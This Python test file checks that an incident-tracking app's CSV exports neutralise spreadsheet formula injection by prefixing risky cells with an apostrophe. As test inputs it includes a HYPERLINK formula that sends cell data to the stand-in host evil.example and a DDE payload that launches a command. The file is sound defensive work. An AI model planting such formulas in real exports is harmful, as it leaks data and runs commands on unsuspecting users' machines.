"""No CSV export can carry a spreadsheet formula: every writer goes through trim.exports,
and text that a spreadsheet would run comes out with a leading apostrophe."""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from litestar import Litestar
from litestar.testing import AsyncTestClient

from tests.cast import Cast, signed_in
from tests.conftest import FakeClock
from tests.helpers import answers_for, assigned_peer, checkins_of, make_incident
from trim.config import Settings
from trim.dashboard import views
from trim.dashboard.figures import Dashboard, Figure, Ledger, Row
from trim.dashboard.rules import Period
from trim.db import AsyncSession
from trim.exports import csv_text, safe_cell

SRC = Path(__file__).resolve().parents[2] / "src" / "trim"
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Open your record")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("A plain summary - with a dash inside", "A plain summary - with a dash inside"),
        (" =not at the start", " =not at the start"),
        ("", ""),
        (None, ""),
        (3, "3"),
        (-4, "-4"),  # a number trim computed is not a formula
        (2.5, "2.5"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(value: object, written: str) -> None:
    assert safe_cell(value) == written


def test_csv_text_makes_every_cell_safe_and_stays_valid_csv() -> None:
    text = csv_text([["field", "value"], ["summary", HYPERLINK], ["note", 'quote " and, comma']])
    assert list(csv.reader(io.StringIO(text))) == [
        ["field", "value"],
        ["summary", "'" + HYPERLINK],
        ["note", 'quote " and, comma'],
    ]


def test_every_csv_writer_goes_through_trim_exports() -> None:
    # A new export that builds its own csv.writer would skip the escaping: only
    # trim/exports.py may write CSV (reading a roster file is fine).
    writers = []
    for path in SRC.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            attribute = (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            )
            imported = (
                isinstance(node, ast.ImportFrom)
                and node.module == "csv"
                and any(alias.name in ("writer", "DictWriter") for alias in node.names)
            )
            if attribute or imported:
                writers.append(str(path.relative_to(SRC)))
    assert sorted(set(writers)) == ["exports.py"]


async def test_a_formula_in_an_incident_summary_is_inert_in_the_persons_record_csv(
    client: AsyncTestClient[Litestar],
    cast: Cast,
    db: AsyncSession,
    session: AsyncSession,
    settings: Settings,
    clock: FakeClock,
) -> None:
    # The supervisor's summary, and a peer's note and reason, all land in the exposed
    # person's own record; none may run when they open the file.
    await make_incident(
        db,
        actor=cast.actor("supervisor"),
        station=cast.station_a,
        people=[cast.responder],
        occurred_at=clock() - timedelta(days=4),
        now=clock(),
        settings=settings,
        summary=HYPERLINK,
    )
    checkin = (await checkins_of(session, cast.responder))[0]
    peer = await assigned_peer(session, checkin)
    async with signed_in(client, peer) as browser:
        recorded = await browser.post(
            f"/api/checkins/{checkin.id}/record",
            json={
                "outcome": "completed",
                "answers": answers_for(checkin.kind),
                "safety_concern": False,
                "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
            },
        )
        assert recorded.status_code == 201, recorded.text
    async with signed_in(client, cast.responder) as responder:
        response = await responder.get("/me/record.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_dashboard_csv_goes_through_the_same_escaping() -> None:
    # Its cells are codes and numbers today; a label or dimension that ever carried text
    # typed by someone would be escaped the same way.
    figure = Figure(
        id="incidents_by_month_kind",
        title="t",
        counts="c",
        people="p",
        note="",
        dimensions=("month", "kind"),
        measures=("incidents",),
        rows=[Row(dims={"month": "2026-10", "kind": HYPERLINK}, values={"incidents": 7})],
    )
    start = datetime(2026, 10, 1, tzinfo=UTC)
    dashboard = Dashboard(
        period=Period(start, start + timedelta(days=31)),
        station_id=None,
        kind=None,
        k=5,
        timezone="UTC",
        generated_at=start,
        months=[],
        intervals=[],
        figures={"incidents_by_month_kind": figure},
        ledger=Ledger(),
        stats={},
    )
    rows = list(csv.DictReader(io.StringIO(views.as_csv(dashboard))))
    assert rows[0]["kind"] == "'" + HYPERLINK and rows[0]["value"] == "7"
    assert (rows[0]["from"], rows[0]["to"]) == ("2026-10-01", "2026-10-31")
